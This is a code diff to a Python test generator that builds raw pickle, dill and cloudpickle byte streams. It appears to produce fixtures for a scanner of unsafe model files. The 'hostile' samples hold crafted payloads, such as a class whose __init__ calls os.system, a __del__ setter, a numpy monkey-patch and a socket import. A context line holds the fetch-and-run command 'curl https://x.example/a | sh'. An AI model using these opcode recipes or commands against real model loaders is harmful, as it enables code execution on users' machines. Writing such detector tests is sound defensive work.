@@ -56,6 +56,49 @@ def _cloudpickle(*names: str) -> bytes:
     return PROTO4 + stack_name(module, "_make_function") + b"(" + code + b"}NNNtR."
 
 
+DILL: typing.Final = "dill._dill"
+CLOUDPICKLE: typing.Final = "cloudpickle.cloudpickle"
+
+
+def _function(*names: str) -> bytes:
+    """Return the opcodes of a function that dill carries by value, without the stream around it."""
+    return _dill(*names)[len(PROTO4) : -1]
+
+
+def _looked_up(kind: str, *given: bytes) -> bytes:
+    """Return a call of a type that dill looks up by name."""
+    kind_of = stack_name(DILL, "_load_type") + text(kind) + b"\x85R"
+    return kind_of + b"(" + b"".join(given) + b"tR"
+
+
+def _class(*members: bytes, kind: bytes = b"", base: bytes = b"") -> bytes:
+    """Return a class as dill carries it by value; its members are names and values in turn."""
+    kind = kind or stack_name("builtins", "type")
+    bases = b"(" + (base or stack_name("builtins", "object")) + b"t"
+    body = b"(" + b"".join(members) + b"d"
+    return stack_name(DILL, "_create_type") + b"(" + kind + text("Net") + bases + body + b"tR"
+
+
+def _set(target: bytes, attribute: str, value: bytes, setter: bytes = b"") -> bytes:
+    """Return a call of setattr."""
+    setter = setter or stack_name("builtins", "setattr")
+    return setter + b"(" + target + text(attribute) + value + b"tR"
+
+
+def _dills_setter(name: str = "_setattr") -> bytes:
+    """Return the opcodes by which dill looks up its own setattr, with Python's as the default."""
+    default = stack_name("builtins", "setattr")
+    of_dill = stack_name("dill", "_dill")
+    return stack_name("builtins", "getattr") + b"(" + of_dill + text(name) + default + b"tR"
+
+
+def _skeleton(bases: bytes, kind: bytes = b"") -> bytes:
+    """Return an empty class as cloudpickle makes it, before its members are set."""
+    kind = kind or stack_name("builtins", "type")
+    maker = stack_name(CLOUDPICKLE, "_make_skeleton_class")
+    return maker + b"(" + kind + text("Net") + bases + b"}" + text("1f") + b"NtR"
+
+
 def _keras(function: typing.Callable[..., object]) -> bytes:
     code = b64encode(marshal.dumps(function.__code__)).decode()
     layer = {"class_name": "Lambda", "module": "keras.layers", "registered_name": None,
@@ -329,6 +372,29 @@ def suspicious() -> Iterator[Sample]:
     yield "dill_lambda.dill", _dill()
     yield "dill_log.dill", _dill("np", "log1p")
     yield "cloudpickle.pkl", _cloudpickle("np", "exp")
+    wrapped = [
+        part
+        for kind in ("property", "staticmethod", "classmethod")
+        for part in (text(f"a_{kind}"), _looked_up(kind, _function("np", "exp")))
+    ]
+    net = _class(text("__init__"), _function("x"), *wrapped)
+    yield "dill_class.dill", PROTO4 + net + b"."
+    yield "dill_instance.dill", PROTO4 + net + b")\x81}b."
+    yield "dill_named.dill", PROTO4 + _set(net, "__qualname__", text("Net")) + b"."
+    cell = stack_name(DILL, "_create_cell") + b"N\x85R"
+    yield "dill_super.dill", PROTO4 + _set(cell, "cell_contents", net, _dills_setter()) + b"."
+    named = stack_name(DILL, "_create_namedtuple") + b"(" + text("P") + arguments("a", "b")
+    yield (
+        "dill_namedtuple.dill",
+        PROTO4 + named + text("__main__") + b"tR" + arguments(1, 2) + b"R.",
+    )
+    yield "dill_partial.dill", PROTO4 + _looked_up("PartialType", _function("x")) + b"."
+    object_base = b"(" + stack_name("builtins", "object") + b"t"
+    yield "cloudpickle_class.pkl", PROTO4 + _skeleton(object_base) + b")R."
+    static = stack_name("builtins", "staticmethod") + _function("x") + b"\x85R"
+    yield "cloudpickle_static.pkl", PROTO4 + static + b"."
+    maker = stack_name("builtins", "getattr") + stack_name("builtins", "tuple") + text("__new__")
+    yield "cloudpickle_maker.pkl", PROTO4 + b"(" + maker + b"\x86R" + static + b"t."
     yield "lambda/config.json", _keras(lambda x: x * 2)
 
 
@@ -388,6 +454,25 @@ def hostile() -> Iterator[Sample]:
     yield "dill_command.dill", _dill("x", constants=(None, "curl https://x.example/a | sh"))
     yield "dill_called.dill", _dill()[:-1] + b")R."
     yield "cloudpickle_code.pkl", _cloudpickle("os", "system")
+    yield "dill_method.dill", PROTO4 + _class(text("__init__"), _function("os", "system")) + b")R."
+    yield "dill_maker.dill", PROTO4 + _class(kind=stack_name(DILL, "_import_module")) + b")R."
+    yield "dill_setter.dill", PROTO4 + _set(_class(), "__del__", _function("x")) + b"."
+    yield (
+        "dill_patch.dill",
+        PROTO4 + _set(stack_name("numpy", "ndarray"), "__name__", text("x")) + b".",
+    )
+    yield "dill_load.dill", PROTO4 + _dills_setter("load") + b"."
+    yield "dill_wrapped.dill", PROTO4 + _looked_up("property", stack_name("numpy", "dot")) + b"."
+    yield "dill_called_partial.dill", PROTO4 + _looked_up("PartialType", _function("x")) + b")R."
+    yield "cloudpickle_maker.pkl", PROTO4 + _skeleton(b")", stack_name("builtins", "len")) + b")R."
+    yield (
+        "called_maker.pkl",
+        PROTO4
+        + stack_name("builtins", "getattr")
+        + stack_name("builtins", "tuple")
+        + text("__new__")
+        + b"\x86R)R.",
+    )
     yield (
         "cloudpickle_import.pkl",
         PROTO4 + stack_name("cloudpickle.cloudpickle", "subimport") + text("socket") + b"\x85R.",
